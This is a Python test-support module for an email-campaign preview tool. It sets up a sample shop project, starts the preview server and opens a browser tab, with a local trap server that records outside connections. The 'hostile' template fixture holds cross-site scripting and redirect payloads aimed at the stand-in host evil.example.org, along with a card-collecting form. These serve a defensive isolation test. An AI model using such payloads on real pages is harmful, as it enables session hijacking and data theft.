"""A small shop to preview, the preview as somebody starts it, and a tab of a real browser."""

from __future__ import annotations

import contextlib
import json
import os
import re
import socketserver
import subprocess
import sys
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
from playwright.sync_api import Page, expect

ROOT = Path(__file__).parents[2]
CHROMIUM_FLAGS = ["--disable-quic", "--disable-component-update", "--disable-sync", "--no-first-run"]
SOON = 15_000
"""Milliseconds that something on the screen may take before a test gives up; no test measures speed."""
expect.set_options(timeout=SOON)

HOSTILE = """\
---
subject: '<img src=x onerror=alert(1)> "quoted" & {{ customer.first_name }}'
preheader: </style></script><b>out</b>
from: Shop <shop@example.org>
---
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example.org/refresh">
<base href="https://evil.example.org/" target="_top">
<link rel="preconnect" href="https://evil.example.org"><link rel="stylesheet" href="https://evil.example.org/a.css">
<style>@import "https://evil.example.org/b.css"; .x { background: url(https://evil.example.org/c.png) } body { color: #111 }</style>
</head><body onload="parent.document.title = 'taken'">
<script>parent.document.title = "taken"; top.location = "https://evil.example.org/top"; fetch("/api/project")</script>
<img src="https://evil.example.org/pixel.gif" alt="a pixel" onerror="parent.document.title = 'taken'">
<img src="//evil.example.org/other.gif" srcset="https://evil.example.org/2x.gif 2x" alt="another">
<table background="https://evil.example.org/bg.png"><tr><td>cell</td></tr></table>
<form action="https://evil.example.org/form" method="post"><input name="card"><button id="pay">Pay</button></form>
<iframe src="https://evil.example.org/frame"></iframe><object data="https://evil.example.org/object"></object>
<a id="link" href="https://evil.example.org/link" target="_self">self</a> <a id="top" href="https://evil.example.org/t" target="_top">top</a>
<a id="js" href="javascript:parent.document.title='taken'">script</a>
<svg><script>parent.document.title = "taken"</script></svg>
<table>{% for i in (1..400) %}<tr>{% for j in (1..12) %}<td>{{ i }}.{{ j }}</td>{% endfor %}</tr>{% endfor %}</table>
<div><b><i>never closed <!-- nor this
<p>still a comment</p>
"""

FILES = {
    "mailwright.toml": (
        'default_workspace = "qa"\n[workspaces.qa]\nfrom = "Shop <shop@example.org>"\n'
        'vars = { base_url = "https://qa.example.org" }\n'
        '[workspaces.prod]\nfrom = "Shop <shop@example.org>"\nvars = { base_url = "https://www.example.org" }\n'
    ),
    "campaigns/_shared/events/ordered.yaml": (
        "name: ordered\nproperties:\n  total: {type: number, required: true, example: 20}\n"
        "  size: {type: text, allowed: [small, large], example: small}\n  gift: {type: boolean}\n"
    ),
    "campaigns/_shared/events/joined.yaml": "name: joined\nproperties:\n  plan: {type: text, example: pro}\n",
    "campaigns/_shared/people.yaml": (
        "attributes:\n  email: {type: text, example: ana@example.org}\n  first_name: {type: text, example: Ana}\n"
        "  vip: {type: boolean}\n  language: {type: text}\n"
    ),
    "campaigns/_shared/segments/staff.yaml": "name: Staff\nmanual: true\n",
    "campaigns/_shared/samples/ana.yaml": (
        "name: Ana orders\nperson: {id: ana, attributes: {email: ana@example.org, first_name: Ana, vip: true}}\n"
        "event: {name: ordered, data: {total: 20, size: small}}\nat: '2026-01-05T10:00:00Z'\ncampaigns: [order]\n"
    ),
    "campaigns/_shared/samples/ines.yaml": (
        "name: Inés orders a lot\nperson: {id: ines, attributes: {email: ines@example.org, first_name: Inés, language: es}}\n"
        "event: {name: ordered, data: {total: 900, size: large}}\nat: '2026-01-05T10:00:00Z'\ncampaigns: [order]\n"
    ),
    "campaigns/order/campaign.yaml": (
        "name: Order\ntrigger: {event: ordered, where: {total: {above: 10}}}\nfilter: {not: {segment: staff}}\n"
        "workflow:\n  - email: thanks\n  - wait: 2d\n  - branch:\n      if: {person: {vip: true}}\n"
        "      then: [{email: gift}]\n      else: []\n  - email: survey\n    sending: draft\n"
    ),
    "campaigns/order/thanks.liquid": (
        '---\nsubject: "Thanks, {{ customer.first_name }}!"\npreheader: On its way\nlayout: plain@1\n---\n'
        "<h1>Thank you</h1>\n<p>You paid {{ event.total }} at {{ mailwright.base_url }}.</p>\n"
        '<p><a href="{{ mailwright.base_url }}/orders">Your orders</a></p>\n'
    ),
    "campaigns/order/thanks.es.liquid": (
        '---\nsubject: "¡Gracias, {{ customer.first_name }}!"\nlayout: plain@1\n---\n<h1>Gracias</h1>\n'
    ),
    "campaigns/order/gift.liquid": "---\nsubject: A gift\nlayout: plain@1\n---\n<p>A gift for {{ customer.first_name }}</p>\n",
    "campaigns/order/survey.liquid": "---\nsubject: How was it?\n---\n<p>{{ event.missing }}</p>\n",
    "campaigns/small-order/campaign.yaml": (
        "name: Small order\ntrigger: {event: ordered, where: {total: {below: 10}}}\nworkflow:\n  - email: small\n"
    ),
    "campaigns/small-order/small.liquid": "---\nsubject: Small\n---\n<p>Small</p>\n",
    "campaigns/hostile/campaign.yaml": "name: Hostile\ntrigger: {event: joined}\nworkflow:\n  - email: attack\n  - sms: note\n",
    "campaigns/hostile/attack.liquid": HOSTILE,
    "campaigns/hostile/note.liquid": "Hello {{ customer.first_name }}\n",
    "layouts/plain/1.liquid": (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Shop</title>\n'
        "<style>body { background: #ffffff; color: #222222 } h1 { color: #113355 }\n"
        "@media (prefers-color-scheme: dark) { body { background: #101010 !important; color: #eeeeee !important } }</style>\n"
        '</head><body>\n{{content}}\n<p class="foot">{{ snippets.address }}</p>\n</body></html>\n'
    ),
    "layouts/_snippets/address.liquid": "<b>1 Harbour Row</b>\n",
}


class Trap:
    """Where every name leads that is not this machine: it notes who is asked for, and answers nothing.

    A browser does not report what a frame of another process asks for; a connection cannot be missed.
    """

    def __init__(self) -> None:
        self.caught: list[bytes] = []
        trap = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                self.request.settimeout(1)
                with contextlib.suppress(OSError):
                    trap.caught.append(self.request.recv(4096))

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    @property
    def flag(self) -> str:
        port = self.server.server_address[1]
        return f"--host-resolver-rules=MAP * 127.0.0.1:{port}, EXCLUDE 127.0.0.1, EXCLUDE localhost"

    @property
    def hosts(self) -> list[str]:
        """Whom a page wanted to reach: every address in these tests is below example.org.

        What a browser wants to know of its maker is not ours.
        """
        return [name.decode() for data in self.caught for name in re.findall(rb"[a-z0-9.-]+\.example\.org", data)]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@dataclass
class Server:
    """The preview as somebody starts it."""

    root: Path
    url: str
    port: int
    token: str
    process: subprocess.Popen[str]

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def client(self, **headers: str) -> httpx.Client:
        known = {"authorization": f"Bearer {self.token}", "origin": self.base, **headers}
        return httpx.Client(
            base_url=self.base, headers={key: value for key, value in known.items() if value}, trust_env=False
        )

    def ask(self, question: str, **values: Any) -> dict[str, Any]:
        with self.client() as client:
            reply: dict[str, Any] = client.post(f"/api/{question}", json=values).json()
        return reply

    def write(self, name: str, text: str) -> None:
        (self.root / name).write_text(text, "utf-8")

    def stop(self) -> int:
        self.process.send_signal(2)
        code = self.process.wait(20)
        assert self.process.stdout is not None
        self.process.stdout.close()
        return code


def make_project(root: Path) -> Path:
    for name, text in FILES.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    return root


def start(root: Path, *flags: str, **variables: str) -> Server:
    process = subprocess.Popen(
        [sys.executable, "-m", "mailwright", "-C", str(root), "preview", "--no-open", "--format", "json", *flags],
        stdout=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        env={**os.environ, **variables},
    )
    assert process.stdout is not None
    line = process.stdout.readline()
    assert line, "the preview did not start"
    told = json.loads(line)
    return Server(root, told["url"], told["port"], told["token"], process)


@dataclass
class Tab:
    """One tab and what happened in it."""

    page: Page
    server: Server
    errors: list[str] = field(default_factory=list)
    trap: Trap | None = None

    def open(self, path: str = "/") -> Tab:
        joint = "&" if "?" in path else "?"
        self.page.goto(f"{self.server.base}{path}{joint}token={self.server.token}")
        return self

    def text(self) -> str:
        """What the picture on the screen says."""
        return " ".join(self.picture().locator("body").inner_text().split())

    def picture(self) -> Any:
        """The document of the picture on the screen, once there is one."""
        self.page.wait_for_selector(".frames[data-shown]", timeout=SOON)
        for _ in range(50):  # two frames take turns: one may come to the front while we look
            frame = self._front()
            if frame is not None:
                return frame
            self.page.wait_for_timeout(20)
        raise AssertionError("no picture is visible")

    def _front(self) -> Any:
        viewer = self.page.query_selector(".view iframe.viewer")
        inside = viewer.content_frame() if viewer is not None else None
        for handle in inside.query_selector_all("iframe") if inside is not None else ():
            if handle.evaluate("frame => frame.style.visibility") == "visible":
                return handle.content_frame()
        return None

    def wait_for_text(self, text: str) -> None:
        """Wait until the picture on the screen says *text*."""
        for _ in range(SOON // 40):
            if text in self.text():
                return
            self.page.wait_for_timeout(40)
        raise AssertionError(f"{text!r} is not in {self.text()!r}")

    @property
    def outside(self) -> list[str]:
        """Whom the browser tried to reach beside this machine."""
        assert self.trap is not None
        return self.trap.hosts
